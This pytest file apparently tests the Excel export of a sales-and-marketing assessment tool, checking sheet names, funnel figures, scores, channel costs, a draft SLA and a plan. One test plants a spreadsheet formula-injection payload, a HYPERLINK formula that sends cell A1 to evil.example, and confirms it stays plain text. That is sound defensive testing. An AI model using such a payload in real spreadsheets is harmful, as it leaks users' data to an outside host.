"""The report's tables as a workbook: the assessment's own numbers, stored as numbers, no formula."""

from __future__ import annotations

import io
import shutil

import openpyxl
import pytest

from smarketing_assess.core.period import Period
from smarketing_assess.core.resources import examples_dir
from smarketing_assess.presenting.texts import Words
from smarketing_assess.presenting.workbook import workbook
from smarketing_assess.running.execute import run_baseline
from smarketing_assess.running.pipeline import assess


def test_every_table_holds_the_numbers_of_the_assessment(q1_assessment):
    wb = openpyxl.load_workbook(io.BytesIO(workbook(q1_assessment, Words.of("en", "EUR"))))
    assert wb.sheetnames == ["Scores by dimension", "Where sales and marketing", "The funnel",
                             "Acquisition channels", "Draft service-level agreement", "The agreed plan"]
    funnel = wb["The funnel"]
    f = q1_assessment.funnel
    leads = next(r for r in funnel.iter_rows(min_row=2) if r[0].value == "Leads")
    # examples/.../2026-Q1/funnel.csv: 1,350 leads, 420 of them MQLs
    assert (leads[1].value, leads[3].value, leads[6].value) == (1350, pytest.approx(420 / 1350), 1350)
    assert leads[1].number_format == "#,##0" and leads[3].number_format == "0.0%"
    assert leads[4].value == pytest.approx(f.rates["lead_to_mql"].low)
    scores = {r[0].value: [c.value for c in r[1:]] for r in wb["Scores by dimension"].iter_rows(min_row=2)}
    first = q1_assessment.scores.dimensions[0]
    name = Words.of("en", "EUR").dim(first.dimension)
    # leadership is withheld (too few answered): its cell says so, as the report's, and holds no number
    assert scores[name] == [first.teams["marketing"], first.teams["sales"], "withheld", first.score]
    # the overall is the mean of the teams shown: marketing 31 and sales 46 give 38.5, rounded half up to 39
    assert (first.teams["marketing"], first.teams["sales"], first.score) == (31, 46, 39)
    channels = {r[0].value: r for r in wb["Acquisition channels"].iter_rows(min_row=2)}
    # channels.csv: Organic search, EUR 6,000 for 8 customers: EUR 750 each
    assert channels["Organic search"][6].value == 750 and channels["Organic search"][6].number_format == '#,##0 "€"'
    plan = [r[0].value for r in wb["The agreed plan"].iter_rows(min_row=2)]
    assert "Win more of the deals that reach a proposal" in plan and len(plan) == 7


def test_a_text_that_looks_like_a_formula_stays_text(tmp_path):
    client = tmp_path / "client"
    shutil.copytree(examples_dir() / "brightline-sensors", client)
    channels = client / "2026-Q1" / "channels.csv"
    channels.write_text(channels.read_text(encoding="utf-8").replace(
        "Organic search", '"=HYPERLINK(""http://evil.example/?x=""&A1,""Organic"")"'), encoding="utf-8")
    data = workbook(assess(client, Period.parse("2026-Q1")), Words.of("en", "EUR"))
    ws = openpyxl.load_workbook(io.BytesIO(data))["Acquisition channels"]
    cell = next(r[0] for r in ws.iter_rows(min_row=2) if str(r[0].value).startswith("=HYPERLINK"))
    assert cell.data_type == "s"  # a string, never a formula


def test_run_writes_the_workbook_beside_the_report(tmp_path):
    done = run_baseline(examples_dir() / "brightline-sensors", Period.parse("2026-Q1"), tmp_path, progress=False,
                        paper=False)
    assert (done.report.parent / "report.xlsx").is_file()
    italian = run_baseline(examples_dir() / "brightline-sensors", Period.parse("2026-Q1"), tmp_path, language="it",
                           progress=False, paper=False)
    sheets = openpyxl.load_workbook(italian.report.parent / "report.it.xlsx").sheetnames
    assert "Il piano concordato" in sheets


def test_the_sla_and_a_later_quarters_plan_read_as_in_the_report():
    a = assess(examples_dir() / "brightline-sensors", Period.parse("2026-Q2"))
    wb = openpyxl.load_workbook(io.BytesIO(workbook(a, Words.of("en", "EUR"))))
    sla = {r[0].value: [c.value for c in r[1:]] for r in wb["Draft service-level agreement"].iter_rows(min_row=2)}
    # the quarter's commitment, rounded up once, and a month a third of it, as the report's table: 27 customers
    # (400,000 / 15,000 = 26.67) along 2026-Q2's own rates need its 1,485 leads (27 / (27 / 1,485)), 495 a month
    assert sla["Leads"][:2] == [1485, 495]
    plan = wb["The agreed plan"]
    assert [c.value for c in plan[1]][4:6] == ["In 2026-Q1", "Now"]
    speed = next(r for r in plan.iter_rows(min_row=2) if r[0].value == "Contact every MQL within the agreed time")
    # hours to first contact: 28 when the plan started, 16 now, 12 agreed by 30 September
    assert [c.value for c in speed[4:7]] == [28, 16, 12] and speed[7].value.date().isoformat() == "2026-09-30"
